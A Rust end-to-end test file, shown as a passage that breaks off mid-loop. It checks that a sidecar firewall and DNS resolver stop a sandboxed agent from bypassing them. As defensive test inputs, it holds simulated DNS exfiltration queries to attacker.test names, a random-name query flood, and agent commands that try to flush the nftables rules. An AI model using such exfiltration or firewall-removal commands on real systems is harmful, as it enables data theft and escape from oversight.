//! End-to-end test of transparent mode (issues 16 and 27): a sandbox that cannot go
//! around the sidecar, not even through DNS.
//!
//! ```text
//!  shell ns                                   tokenizer ns (routes)    internet ns
//!  ┌──────────────────────────────────────┐   ┌──────────────────┐     ┌──────────────────────┐
//!  │ agent (uid 64011): curl, SDKs, gh,   │   │ tokenizer serve  │     │ fake_api.py :443     │
//!  │  dig, probes; hosts: no API names;   │   │ :8080            │     │ dns_server.py: DNS   │
//!  │  no proxy variables; resolv.conf:    │   │ forwards between │     │ on 10.213.1.2 (UDP,  │
//!  │  127.0.0.53 (the sidecar's DNS)      │   │ the two links    │     │ TCP), records every  │
//!  │ nft table inet tokenizer_sandbox     │──▶│                  │────▶│ query; listeners.py: │
//!  │ sidecar (uid 10001): transparent.sh  │   └──────────────────┘     │ TCP 8443, UDP 443,   │
//!  │  :15001 transparent, :8443 TLS,      │                            │ DNS on 10.213.9.9 (a │
//!  │  127.0.0.53:53 DNS (UDP, TCP)        │                            │ resolver no one      │
//!  │ dns_server.py on 127.0.0.99 (another │                            │ names)               │
//!  │  local resolver)                     │                            │                      │
//!  └──────────────────────────────────────┘                            └──────────────────────┘
//! ```
//!
//! The shell has a default route to the fake internet, over IPv4 and IPv6, as a machine
//! on the real internet does: only the firewall stands between the agent and it. The
//! sidecar runs cli-config.transparent.json's entrypoint (containers/sideproxy/
//! transparent.sh) unchanged: it loads the firewall as root, then serves as SIDECAR_UID,
//! answering the sandbox's DNS on the config's DNS_ADDRESS, with the fake internet's
//! resolver as DNS_SERVERS. The shell runs containers/shell/start.sh with that file's env
//! (CA trust only; no hosts entries) and AGENT_USER, and every client runs as the
//! unprivileged agent.
//!
//! Before the sidecar starts, the agent's probes reach every listener of the fake
//! internet and both resolvers (the control: the topology lets them through). After: TCP
//! 80/443 to any address lands on the sidecar (targets get their real keys; passthrough
//! hosts their own certificate, wherever the client dialled; other SNIs are refused), and
//! TCP to another port, UDP 443 and DNS to any resolver but the sidecar's never arrive.
//! The API names resolve, with no hosts entry, to the sidecar (answered by it, never
//! asked upstream); the passthrough host and DNS_ALLOW names are asked upstream and
//! answered; every other name (exfiltration over UDP and TCP, TXT, a passthrough host's
//! subdomain, a flood of random names, from one client and from many) is REFUSED, never
//! reaches the fake internet's resolver, is audited once per name, and leaves the
//! sidecar's memory bounded. The agent cannot change the rules. The namespaces go, rules
//! and all, even on failure.

use std::collections::{BTreeMap, BTreeSet};
use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::deploy::{container_in, env_of, seal_secrets};
use crate::dns::{self, Dig};
use crate::machine::{
    Scripts, check_nothing_logged, check_sdk_requests, check_watched, run_sdk_clients, shell_env,
    sidecar_env, start_internet, start_tokenizer, write_shell_etc,
};
use crate::netns::{self, Namespaces};
use crate::procs::{Finished, Proc};
use crate::tools::{self, Tools};
use crate::watch::EnvWatcher;
use crate::{
    ANTHROPIC, API_HOSTS, BIN, GITHUB, GITHUB_LOGIN, OPENAI, RealKeys, Servers, check_start_script,
    path, random_hex, readable_copy, root, run_client, run_e2e, set, temp_dir,
};

const CONFIG: &str = "cli-config.transparent.json";
/// The unprivileged user the agent runs as (no account needed).
const AGENT_UID: u32 = 64011;
/// A TLS server in the fake internet that is no target.
const OTHER_HOST: &str = "other.example";
/// A host the sidecar lets through untouched.
const PASSTHROUGH_HOST: &str = "passthrough.example";
/// A port that is neither 80 nor 443.
const OTHER_PORT: u16 = 8443;
/// The fake internet CA's common name (certs.rs).
const INTERNET_CA_NAME: &str = "tokenizer e2e internet CA";
/// DNS_ALLOW: a name and a suffix the sidecar forwards to the real resolvers.
const DNS_ALLOWED: &str = "pkg.example";
const DNS_ALLOWED_SUFFIX: &str = "mirror.example";
/// Another resolver on the shell's loopback, which no one names.
const LOCAL_RESOLVER: &str = "127.0.0.99";
/// The flood: queries for distinct random names from the agent's one address, then from
/// many loopback addresses (as many clients).
const FLOOD: usize = 5000;
const SPRAY: usize = 2000;
/// How much the sidecar's resident memory may grow over the floods.
const MAX_RSS_GROWTH_KIB: u64 = 20 * 1024;
/// DNS_RATE's default: names per second per client.
const DNS_RATE: usize = 100;
/// The longest name text an audit line holds (a name's longest presentation form).
const MAX_NAME_TEXT: usize = 253;
/// Bytes per label of the name that is clipped (four such labels, and a short one).
const CLIP_LABEL_BYTES: usize = 55;

#[test]
fn transparent_sandbox_with_real_clients() {
    run_e2e("transparent mode", run_transparent);
}

fn run_transparent(tools: &Tools) -> Vec<String> {
    tools::need("nft", "nftables");
    tools::need("setpriv", "util-linux");
    let t0 = Instant::now();
    // `dir` (0700) holds what only root may read, the real keys' file among them;
    // `shared` what the agent and the sidecar need: their homes, the CA directory.
    let tmp = temp_dir();
    let dir = tmp.path();
    let shared_tmp = temp_dir();
    let shared = shared_tmp.path();
    std::fs::set_permissions(shared, std::fs::Permissions::from_mode(0o755)).unwrap();
    let real = RealKeys::generate();
    let ns = Namespaces::create("t");
    ns.route_shell_to_internet();
    let names = ns.names();
    let watcher = EnvWatcher::start(Namespaces::net_id(&ns.shell), real.all());
    let mut servers = Servers::default();

    // The sidecar answers the sandbox's DNS on the config's DNS_ADDRESS; start.sh makes
    // the shell's resolv.conf name it (SANDBOX_DNS: a resolv.conf names no port, so it
    // must be 53).
    let sidecar_spec = container_in(CONFIG, "sideproxy");
    let config_env = env_of(&sidecar_spec);
    let dns_address: SocketAddr = lookup(&config_env, "DNS_ADDRESS").parse().unwrap();
    assert_eq!(
        dns_address.port(),
        53,
        "{CONFIG}: DNS_ADDRESS {dns_address}"
    );
    let dns_ip = dns_address.ip().to_string();
    // In transparent mode targets resolve to the DNS address itself (whose web ports the
    // firewall redirects to the sidecar); an IPv4 DNS address gives no AAAA.
    let (target_v4, target_v6) = match dns_address.ip() {
        std::net::IpAddr::V4(ip) => (Some(ip.to_string()), None::<String>),
        std::net::IpAddr::V6(ip) => (None, Some(ip.to_string())),
    };

    // The shell's /etc: no API names (nor any other) in hosts; the machine's resolver
    // (the fake internet's) in resolv.conf, until start.sh names the sidecar's.
    let etc = ns.etc(&ns.shell);
    let hosts = format!(
        "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n\
         {}\ttokenizer.flycast\n",
        netns::TOKENIZER_ADDR,
    );
    write_shell_etc(&etc, &hosts);
    std::fs::write(
        etc.join("resolv.conf"),
        format!("nameserver {}\n", netns::INTERNET_ADDR),
    )
    .unwrap();
    let seen = in_shell(&ns.shell, &["cat", "/etc/resolv.conf"]);
    assert!(
        seen.contains(netns::INTERNET_ADDR),
        "ip netns exec did not put the shell's resolv.conf over /etc/resolv.conf: {seen}"
    );

    // The fake internet: the APIs (and the other and passthrough hosts) on 443, and
    // listeners that only record contacts.
    let internet = start_internet(
        &mut servers,
        &ns.internet,
        tools,
        dir,
        &real,
        &[OTHER_HOST, PASSTHROUGH_HOST],
    );
    let contacts_log = dir.join("contacts.jsonl");
    let mut cmd = Namespaces::command(
        &ns.internet,
        Path::new("/usr/bin/python3"),
        &[("PATH".into(), "/usr/bin:/bin".into())],
    );
    cmd.arg(root().join("tests/e2e/listeners.py"))
        .arg("--log")
        .arg(&contacts_log);
    for addr in [netns::INTERNET_ADDR, netns::INTERNET_ADDR6] {
        cmd.args(["--tcp", &format!("{addr}@{OTHER_PORT}")]);
        cmd.args(["--udp", &format!("{addr}@443")]);
    }
    // A plain-HTTP site on 80, reached as the passthrough host (and as any other).
    cmd.args(["--http", &format!("{}@80", netns::INTERNET_ADDR)]);
    cmd.args(["--udp", &format!("{}@53", netns::OTHER_ADDR)]);
    let listeners = servers.start("listeners", cmd, "listeners ready");
    // The fake internet's resolver (the sidecar's DNS_SERVERS): it knows the API names,
    // the other and passthrough hosts and the DNS_ALLOW name, and records every query.
    let dns_log = dir.join("dns.jsonl");
    let known: Vec<(&str, &str)> = API_HOSTS
        .iter()
        .chain(&[OTHER_HOST, PASSTHROUGH_HOST, DNS_ALLOWED])
        .map(|h| (*h, netns::INTERNET_ADDR))
        .collect();
    let dns_server = servers.start(
        "dns-server",
        dns::server_command(&ns.internet, &dns_log, &[netns::INTERNET_ADDR], &known),
        "dns-server ready",
    );
    // Another resolver on the shell's own loopback: the agent may not use it either.
    let local_dns_log = dir.join("local-dns.jsonl");
    let local_dns = servers.start(
        "local-dns-server",
        dns::server_command(&ns.shell, &local_dns_log, &[LOCAL_RESOLVER], &known),
        "dns-server ready",
    );
    let internet_ca = shared.join("internet-ca.pem");
    std::fs::copy(&internet.ca.ca, &internet_ca).unwrap();

    let (serve, seal_key) = start_tokenizer(&mut servers, &ns.tokenizer, dir, &internet.ca);
    let sidecar_auth = format!("sidecar-{}", random_hex(16));
    let staged = seal_secrets(dir, &seal_key, &sidecar_auth, &real);
    // What runs as another user (the sidecar's UID, the agent) is copied where that user
    // can read it, whatever the checkout's permissions.
    let scripts = Scripts::readable_in(shared);
    let bin = shared.join("tokenizer");
    readable_copy(Path::new(BIN), &bin);

    // The agent: its home, and how it runs things (no capabilities, no way back).
    let home = shared.join("home");
    std::fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(AGENT_UID), Some(AGENT_UID)).unwrap();
    let shell_spec = container_in(CONFIG, "shell");
    let mut agent_env = shell_env(&shell_spec, tools, &home);
    set(&mut agent_env, "AGENT_USER", &AGENT_UID.to_string());
    let as_agent = |name: &str, cwd: &Path, argv: &[&str]| -> Command {
        let mut cmd = Namespaces::command(&ns.shell, Path::new("/usr/bin/setpriv"), &agent_env);
        cmd.args(agent_privileges())
            .args(["/bin/sh", "-c"])
            .arg(format!(
                "[ -f /etc/profile.d/sideproxy.sh ] && . /etc/profile.d/sideproxy.sh; \
                 exec \"$@\" # {name}"
            ))
            .arg("sh")
            .args(argv)
            .current_dir(cwd);
        cmd
    };
    let probe = |phase: &str| -> BTreeMap<String, (bool, String)> {
        let ca = path(&internet_ca);
        let (v4, v6) = (netns::INTERNET_ADDR, netns::INTERNET_ADDR6);
        let specs = [
            format!("other_port=tcp:{v4}:{OTHER_PORT}"),
            format!("other_port6=tcp:[{v6}]:{OTHER_PORT}"),
            format!("quic=udp:{v4}:443"),
            format!("quic6=udp:[{v6}]:443"),
            format!("resolver=dns:{v4}"),
            format!("other_resolver=dns:{}", netns::OTHER_ADDR),
            format!("local_resolver=dns:{LOCAL_RESOLVER}"),
            format!("other_sni=tls:{OTHER_HOST}:443:{ca}:{v4}"),
            // Dialled at an address where nothing serves 443: only a sidecar that dials
            // the name, not the address, reaches the server.
            format!("passthrough_elsewhere=tls:{PASSTHROUGH_HOST}:443:{ca}:{v6}"),
            // Dialled by name: resolved through the fake internet's resolver before,
            // through the sidecar's DNS after.
            format!("passthrough_by_name=tls:{PASSTHROUGH_HOST}:443:{ca}"),
            // Two keep-alive requests on one plain-HTTP connection: the passthrough
            // host's, then another site's at the same address.
            format!("plain_http=http2:{PASSTHROUGH_HOST}:{OTHER_HOST}:{v4}"),
        ];
        let probe_py = path(&scripts.clients.join("probe.py"));
        let mut argv = vec!["/usr/bin/python3", probe_py.as_str()];
        argv.extend(specs.iter().map(String::as_str));
        let out = run_client(&format!("probe-{phase}"), as_agent("probe", &home, &argv));
        let doc: Value = serde_json::from_str(out.stdout.trim()).unwrap();
        doc.as_object()
            .unwrap()
            .iter()
            .map(|(k, v)| {
                (
                    k.clone(),
                    (
                        v["ok"].as_bool().unwrap(),
                        v["detail"].as_str().unwrap().to_owned(),
                    ),
                )
            })
            .collect()
    };

    // dig as the agent (`name` names the run for the log): what it got.
    let dig = |name: &str, args: &[&str]| -> Dig {
        let mut argv = vec![
            "dig",
            "+tries=1",
            "+time=3",
            "+noall",
            "+comments",
            "+answer",
        ];
        argv.extend_from_slice(args);
        let done = Proc::spawn(name, as_agent(name, &home, &argv)).finish(Duration::from_secs(20));
        let got = Dig::parse(&done);
        eprintln!(
            "e2e: {name}: {:.1}s: {:?} {:?}",
            done.took.as_secs_f64(),
            got.status,
            got.answers
        );
        got
    };
    // The fake internet's resolver, asked directly over UDP and over TCP.
    let direct = |phase: &str| -> [Dig; 2] {
        let server = format!("@{}", netns::INTERNET_ADDR);
        [
            dig(
                &format!("dig-direct-udp-{phase}"),
                &[&server, "example.com"],
            ),
            dig(
                &format!("dig-direct-tcp-{phase}"),
                &[&server, "+tcp", "example.com"],
            ),
        ]
    };

    // Before the firewall, the agent reaches the fake internet every way (the control).
    for got in direct("before") {
        assert_eq!(
            got.status.as_deref(),
            Some("NXDOMAIN"),
            "without the firewall, the agent asks the fake internet's resolver: {}",
            got.output
        );
    }
    let before = probe("before");
    for (name, (ok, detail)) in &before {
        let expected = name != "passthrough_elsewhere";
        if name == "plain_http" {
            assert_eq!(
                detail, "200 200",
                "without the firewall, both requests are served"
            );
        }
        assert_eq!(
            *ok,
            expected,
            "without the firewall, probe {name} should {}: {detail}",
            if expected { "succeed" } else { "fail" }
        );
    }
    let contacts_before = contacts(&contacts_log);

    let local_dns_before = dns::queries(&local_dns_log).len();
    assert!(local_dns_before > 0, "the local resolver saw no probe");

    // `tokenizer sideproxy firewall` prints a ruleset that nft accepts: the agent's DNS
    // goes to DNS_ADDRESS only, the real resolvers (DNS_SERVERS) are the sidecar's.
    let ca_dir = shared.join("sideproxy");
    let mut side_env = sidecar_env(&sidecar_spec, &staged, &ca_dir, &sidecar_auth);
    for (k, v) in [
        ("TOKENIZER", path(&bin)),
        (
            "PATH",
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".to_owned(),
        ),
        (
            "PASSTHROUGH",
            format!("{PASSTHROUGH_HOST},{PASSTHROUGH_HOST}:80"),
        ),
        // The sidecar dials passthrough hosts itself, through its destination guard.
        ("UPSTREAM_ALLOW_CIDRS", netns::INTERNET_NET.to_owned()),
        // It asks the fake internet's resolver, for the names it forwards.
        ("DNS_SERVERS", netns::INTERNET_ADDR.to_owned()),
        ("DNS_ALLOW", format!("{DNS_ALLOWED},*.{DNS_ALLOWED_SUFFIX}")),
    ] {
        set(&mut side_env, k, &v);
    }
    let sidecar_uid: u32 = lookup(&side_env, "SIDECAR_UID").parse().unwrap();
    let transparent_port = lookup(&side_env, "TRANSPARENT_PORT");
    let printed = {
        let mut cmd = Namespaces::command(&ns.shell, Path::new(BIN), &side_env);
        cmd.args(["sideproxy", "firewall"]);
        Proc::spawn("firewall-print", cmd)
            .finish(Duration::from_secs(10))
            .ok()
            .stdout
    };
    assert!(
        printed.contains(&format!("redirect to :{transparent_port}"))
            && printed.contains(&format!("meta skuid {sidecar_uid} accept")),
        "the printed ruleset:\n{printed}"
    );
    let dns_rules: Vec<&str> = printed.lines().filter(|l| l.contains("dport 53")).collect();
    assert!(
        dns_rules
            .iter()
            .any(|l| l.contains(&dns_ip) && l.contains("accept")),
        "the printed ruleset lets no DNS to {dns_address}:\n{printed}"
    );
    assert!(
        !dns_rules.iter().any(|l| l.contains(netns::INTERNET_ADDR)
            && l.contains("accept")
            && !l.contains("skuid")),
        "the printed ruleset lets every UID ask the real resolver:\n{printed}"
    );
    let check = nft_check(&ns.shell, &printed);
    assert!(
        check.is_empty(),
        "nft -c rejects the printed ruleset: {check}"
    );

    // The sidecar: the Fly config's entrypoint, unchanged.
    let entrypoint = sidecar_spec["entrypoint"][0].as_str().unwrap();
    assert_eq!(entrypoint, "/usr/local/bin/sideproxy-transparent");
    let dockerfile =
        std::fs::read_to_string(root().join("containers/tokenizer.Dockerfile")).unwrap();
    assert!(
        dockerfile.contains(&format!(
            "COPY containers/sideproxy/transparent.sh {entrypoint}"
        )),
        "the tokenizer image does not install transparent.sh as {entrypoint}"
    );
    // The control: the agent's direct queries reached the fake internet's resolver, over
    // UDP and TCP.
    let control = dns::queries(&dns_log);
    for transport in ["udp", "tcp"] {
        assert!(
            control.iter().any(|q| q.name == "example.com"
                && q.qtype == "A"
                && q.transport == transport
                && q.from == netns::SHELL_ADDR),
            "the fake internet's resolver got no {transport} query from the agent: {control:?}"
        );
    }
    let dns_before = control.len();
    let mut cmd = Namespaces::command(&ns.shell, Path::new("/bin/sh"), &side_env);
    cmd.arg(root().join("containers/sideproxy/transparent.sh"));
    let sidecar = servers.start("sideproxy", cmd, "sideproxy listening");
    assert_eq!(
        uid_of(sidecar.pid()),
        sidecar_uid,
        "the sidecar does not run as SIDECAR_UID"
    );
    // Loading it again (a restart) replaces the table: the rules are there once.
    let mut cmd = Namespaces::command(&ns.shell, Path::new(BIN), &side_env);
    cmd.args(["sideproxy", "firewall", "--apply"]);
    Proc::spawn("firewall-again", cmd)
        .finish(Duration::from_secs(10))
        .ok();
    let rules = table(&ns.shell);
    // (Two redirects per copy: the DNS address's web ports, then every non-local one.)
    assert_eq!(
        rules.matches("redirect to").count(),
        2,
        "after loading twice:\n{rules}"
    );
    assert_eq!(
        rules.matches("fib daddr type local return").count(),
        1,
        "after loading twice:\n{rules}"
    );

    // The shell: start.sh trusts the sidecar's CA and leaves the hosts file alone.
    let mut shell_env = agent_env.clone();
    set(&mut shell_env, "HOME", &path(dir));
    let mut cmd = Namespaces::command(&ns.shell, Path::new("/bin/sh"), &shell_env);
    cmd.arg(root().join("containers/shell/start.sh"));
    let shell = servers.start_within(
        "start-shell",
        cmd,
        "start-shell: ready",
        Duration::from_secs(90),
    );
    eprintln!(
        "e2e: transparent machine up in {:.1}s",
        t0.elapsed().as_secs_f64()
    );
    let sidecar_ca = std::fs::read_to_string(ca_dir.join("ca.pem")).unwrap();
    check_start_script(&etc, &sidecar_ca, tools);
    assert_eq!(
        std::fs::read_to_string(etc.join("hosts")).unwrap(),
        hosts,
        "start.sh changed the hosts file in transparent mode"
    );
    let sandbox_dns = env_of(&shell_spec)
        .into_iter()
        .find(|(k, _)| k == "SANDBOX_DNS")
        .map(|(_, v)| v);
    assert_eq!(
        sandbox_dns.as_deref(),
        Some(dns_ip.as_str()),
        "{CONFIG}: the shell's SANDBOX_DNS is not the sidecar's DNS_ADDRESS ({dns_address})"
    );
    assert_eq!(
        std::fs::read_to_string(etc.join("resolv.conf")).unwrap(),
        format!("nameserver {dns_ip}\n"),
        "start.sh did not make the shell's resolv.conf name only the sidecar's DNS"
    );

    // start.sh runs its command as AGENT_USER, who cannot change the rules.
    let out = run_client("start-shell-command", {
        let mut cmd = Namespaces::command(&ns.shell, Path::new("/bin/sh"), &shell_env);
        cmd.arg(root().join("containers/shell/start.sh")).args([
            "/bin/sh",
            "-c",
            "id -u; nft flush ruleset 2>&1 && echo flushed; \
             nft delete table inet tokenizer_sandbox 2>&1 && echo deleted; true",
        ]);
        cmd
    });
    let mut lines = out.stdout.lines();
    assert_eq!(lines.next(), Some(AGENT_UID.to_string().as_str()));
    assert!(
        !out.stdout.contains("flushed") && !out.stdout.contains("deleted"),
        "the agent changed the firewall: {}",
        out.stdout
    );
    assert_eq!(table(&ns.shell), rules, "the rules changed");

    let t1 = Instant::now();
    let client = |name: &str, cwd: &Path, argv: &[&str]| -> Finished {
        run_client(name, as_agent(name, cwd, argv))
    };

    // DNS, as the agent sees it. The API names resolve, with no hosts entry, to the
    // sidecar's own addresses, and a client dialling them by name lands on the sidecar
    // (checked first: every client below depends on it).
    let sidecar_ips: Vec<&str> = [&target_v4, &target_v6]
        .into_iter()
        .flatten()
        .map(String::as_str)
        .collect();
    let out = client(
        "getent-target",
        &home,
        &[
            "sh",
            "-c",
            &format!("getent hosts {OPENAI} && echo -- && getent ahosts {OPENAI}"),
        ],
    );
    let (hosts_out, ahosts_out) = out.stdout.split_once("--\n").unwrap();
    let addrs_of = |text: &str| -> BTreeSet<String> {
        text.lines()
            .filter_map(|l| l.split_whitespace().next())
            .map(str::to_owned)
            .collect()
    };
    let (hosts_addrs, ahosts_addrs) = (addrs_of(hosts_out), addrs_of(ahosts_out));
    assert!(
        !hosts_addrs.is_empty()
            && hosts_addrs
                .iter()
                .all(|a| sidecar_ips.contains(&a.as_str())),
        "getent hosts {OPENAI}: {hosts_out:?}, not the sidecar's {sidecar_ips:?}"
    );
    assert_eq!(
        ahosts_addrs,
        sidecar_ips
            .iter()
            .map(|a| (*a).to_owned())
            .collect::<BTreeSet<_>>(),
        "getent ahosts {OPENAI}: {ahosts_out}"
    );
    let curl = Proc::spawn(
        "curl-by-name",
        as_agent(
            "curl-by-name",
            &home,
            &[
                "curl",
                "-sS",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code} %{remote_ip}",
                &format!("https://{OPENAI}/v1/models"),
                "-H",
                "Authorization: Bearer dummy",
            ],
        ),
    )
    .finish(Duration::from_secs(60));
    eprintln!("e2e: curl-by-name: {}{}", curl.stdout, curl.stderr);
    assert!(
        curl.status.is_some_and(|s| s.success()),
        "curl https://{OPENAI}/v1/models, {OPENAI} resolved by the sidecar to \
         {ahosts_addrs:?} (its DNS_ADDRESS): {}{}\nwhat listens in the shell:\n{}\
         the firewall:\n{}",
        curl.stdout,
        curl.stderr,
        in_shell(&ns.shell, &["ss", "-ltnH"]),
        table(&ns.shell)
    );
    // 404 from the fake API: past its key check (401 with any other key).
    let (code, remote) = curl.stdout.trim().split_once(' ').unwrap();
    assert_eq!(
        code, "404",
        "curl https://{OPENAI}/v1/models: {}",
        curl.stdout
    );
    assert!(
        sidecar_ips.contains(&remote),
        "curl reached {OPENAI} at {remote}, not at the sidecar's {sidecar_ips:?}"
    );

    // The clients, as the agent: real keys injected, one streamed response each.
    run_sdk_clients(&client, &home, tools, &scripts);
    // Plain HTTP to port 80 is routed by Host (and sent on over TLS).
    let out = client(
        "curl-http",
        &home,
        &[
            "curl",
            "-sS",
            "http://api.github.com/user",
            "-H",
            "Authorization: token dummy",
        ],
    );
    let doc: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(doc["login"], GITHUB_LOGIN, "plain HTTP: {}", out.stdout);
    // IPv6: an API's address over IPv6 is redirected the same way.
    let out = client(
        "curl-ipv6",
        &home,
        &[
            "curl",
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--resolve",
            &format!("{ANTHROPIC}:443:[{}]", netns::INTERNET_ADDR6),
            &format!("https://{ANTHROPIC}/v1/models"),
            "-H",
            "x-api-key: dummy",
        ],
    );
    // 404 from the fake API: past its key check (401 with any other key).
    assert_eq!(out.stdout.trim(), "404", "IPv6 to {ANTHROPIC}");
    let clients_took = t1.elapsed();

    // Every type of question about a target is answered by the sidecar itself: its
    // addresses, or no record.
    let t2 = Instant::now();
    let got = dig("dig-target-a", &[OPENAI]);
    assert_eq!(got.status.as_deref(), Some("NOERROR"), "{}", got.output);
    assert_eq!(got.records("A"), target_v4.as_slice(), "{}", got.output);
    let got = dig("dig-target-aaaa", &["AAAA", ANTHROPIC]);
    assert_eq!(got.status.as_deref(), Some("NOERROR"), "{}", got.output);
    assert_eq!(got.records("AAAA"), target_v6.as_slice(), "{}", got.output);
    let got = dig("dig-target-txt", &["TXT", GITHUB]);
    assert_eq!(got.status.as_deref(), Some("NOERROR"), "{}", got.output);
    assert!(got.answers.is_empty(), "TXT {GITHUB}: {}", got.output);

    // The passthrough host and DNS_ALLOW's names are asked upstream and answered (the
    // probes below connect to the passthrough host by name).
    let out = client(
        "getent-passthrough",
        &home,
        &["getent", "hosts", PASSTHROUGH_HOST],
    );
    assert_eq!(
        addrs_of(&out.stdout),
        BTreeSet::from([netns::INTERNET_ADDR.to_owned()]),
        "getent hosts {PASSTHROUGH_HOST}"
    );
    let got = dig("dig-passthrough", &[PASSTHROUGH_HOST]);
    assert_eq!(got.status.as_deref(), Some("NOERROR"), "{}", got.output);
    assert_eq!(got.records("A"), [netns::INTERNET_ADDR], "{}", got.output);
    let got = dig("dig-allowed", &[DNS_ALLOWED]);
    assert_eq!(got.records("A"), [netns::INTERNET_ADDR], "{}", got.output);
    let allowed_suffix_name = format!("x{}.{DNS_ALLOWED_SUFFIX}", random_hex(4));
    let got = dig("dig-allowed-suffix", &[&allowed_suffix_name]);
    // Forwarded, and the fake internet's resolver knows no such name.
    assert_eq!(got.status.as_deref(), Some("NXDOMAIN"), "{}", got.output);

    // Every other name is refused, whatever the transport or type.
    let exfil_label = format!("exfil-{}", random_hex(8));
    let exfil = format!(
        "{exfil_label}.{}.{}.{}.{}.attacker.test",
        random_hex(30),
        random_hex(30),
        random_hex(30),
        random_hex(15)
    );
    let txt_name = format!("x{}.attacker.test", random_hex(6));
    let passthrough_sub = format!("sub{}.{PASSTHROUGH_HOST}", random_hex(6));
    let refused_names = [exfil.clone(), txt_name.clone(), passthrough_sub.clone()];
    // A name whose text is longer than any name (its bytes escaped, four characters
    // each): its audit line holds it clipped.
    let clip_label = format!("clip{}", random_hex(4));
    let clip_name = format!(
        "{clip_label}.{}.attacker.test",
        vec!["\\128".repeat(CLIP_LABEL_BYTES); 4].join(".")
    );
    for (name, args) in [
        ("dig-clip", vec![clip_name.as_str()]),
        ("dig-exfil-udp", vec![exfil.as_str()]),
        ("dig-exfil-tcp", vec!["+tcp", exfil.as_str()]),
        ("dig-txt", vec!["TXT", txt_name.as_str()]),
        ("dig-passthrough-sub", vec![passthrough_sub.as_str()]),
    ] {
        let got = dig(name, &args);
        assert_eq!(
            got.status.as_deref(),
            Some("REFUSED"),
            "{name}: {}",
            got.output
        );
        assert!(got.answers.is_empty(), "{name}: {}", got.output);
    }
    // The fake internet's resolver, asked directly, is out of reach.
    for got in direct("after") {
        assert!(
            got.status.is_none() && !got.exited_ok,
            "with the firewall, the agent asked the fake internet's resolver: {}",
            got.output
        );
    }
    let dns_took = t2.elapsed();

    // What the firewall and the sidecar made of the probes.
    let after = probe("after");
    let want = [
        ("other_port", false),
        ("other_port6", false),
        ("quic", false),
        ("quic6", false),
        ("resolver", false),
        ("other_resolver", false),
        ("local_resolver", false),
        ("other_sni", false),
        ("passthrough_elsewhere", true),
        ("passthrough_by_name", true),
        ("plain_http", true),
    ];
    for (name, expected) in want {
        let (ok, detail) = &after[name];
        assert_eq!(*ok, expected, "with the firewall, probe {name}: {detail}");
    }
    for name in ["passthrough_elsewhere", "passthrough_by_name"] {
        assert_eq!(
            after[name].1, INTERNET_CA_NAME,
            "{name}: the passthrough host did not present its own certificate"
        );
    }
    // Plain-HTTP passthrough judges every request: the second, for another site at the
    // same address, is refused by the sidecar and never reaches it.
    assert_eq!(
        after["plain_http"].1, "200 403",
        "plain HTTP to the passthrough host"
    );
    let http_key = format!("http {}:80", netns::INTERNET_ADDR);
    let hosts_after: Vec<String> = http_hosts(&contacts_log);
    assert_eq!(
        hosts_after,
        [PASSTHROUGH_HOST, OTHER_HOST, PASSTHROUGH_HOST],
        "the plain-HTTP site saw other requests than the passthrough host's"
    );
    let contacts_after = contacts(&contacts_log);
    for (key, n) in &contacts_after {
        let was = contacts_before.get(key).copied().unwrap_or(0);
        let passthrough = key == &http_key && *n == was + 1;
        assert!(
            *n == was || passthrough,
            "{key} was reached through the firewall ({was} -> {n} contacts)"
        );
    }

    // A flood of queries for random names from the agent's address: every one refused
    // (past DNS_RATE names a second, unexamined), none forwarded, a bounded number
    // audited.
    let t3 = Instant::now();
    let rss_before = dns::rss_kib(sidecar.pid());
    let flood_py = path(&scripts.clients.join("dns_flood.py"));
    let flood = |name: &str, tag: &str, count: usize, sources: usize| -> f64 {
        let mut argv = vec![
            "python3".to_owned(),
            flood_py.clone(),
            dns_ip.clone(),
            count.to_string(),
            tag.to_owned(),
            "attacker.test".to_owned(),
        ];
        if sources > 0 {
            argv.push(sources.to_string());
        }
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let out = client(name, &home, &argv);
        let doc: Value = serde_json::from_str(out.stdout.trim()).unwrap();
        assert_eq!(doc["sent"], count, "{name}: {doc}");
        assert_eq!(
            doc["rcodes"],
            serde_json::json!({ "REFUSED": count }),
            "{name}: every random name must be refused: {doc}"
        );
        assert_eq!(doc["unanswered"], 0, "{name}: {doc}");
        assert_eq!(doc["with_records"], 0, "{name}: {doc}");
        doc["seconds"].as_f64().unwrap()
    };
    let flood_tag = format!("flood{}", random_hex(4));
    let flood_secs = flood("dns-flood", &flood_tag, FLOOD, 0);
    // Once the flood's second is over, names resolve again.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let got = dig("dig-passthrough-after-flood", &[PASSTHROUGH_HOST]);
        if got.records("A") == [netns::INTERNET_ADDR] {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "{PASSTHROUGH_HOST} does not resolve after the flood: {}",
            got.output
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let last_name = format!("last{}.attacker.test", random_hex(6));
    let got = dig("dig-last", &[&last_name]);
    assert_eq!(got.status.as_deref(), Some("REFUSED"), "{}", got.output);

    // The audit: one denied line per refused name (the exfiltration's, asked over UDP
    // and TCP, once), its name whole, or clipped when its text is longer than a name;
    // not one line per flood query; none for what the sidecar answers or forwards. The
    // log writer batches: wait for the last name's line.
    let host_of = |l: &Value| l["host"].as_str().unwrap_or_default().to_owned();
    let deadline = Instant::now() + Duration::from_secs(5);
    let dns_audit = loop {
        let lines = dns::audit_lines(&sidecar.stderr());
        if lines.iter().any(|l| host_of(l) == last_name) || Instant::now() > deadline {
            break lines;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let denied: Vec<String> = dns_audit
        .iter()
        .filter(|l| l["decision"] == "denied")
        .map(host_of)
        .collect();
    let show = || {
        format!(
            "{} DNS audit lines, the first 40:\n{:#?}\n--- sidecar stderr (end) ---\n{}",
            dns_audit.len(),
            &dns_audit[..dns_audit.len().min(40)],
            tail(&sidecar.stderr(), 4000)
        )
    };
    for name in refused_names.iter().chain([&last_name]) {
        let n = denied.iter().filter(|h| *h == name).count();
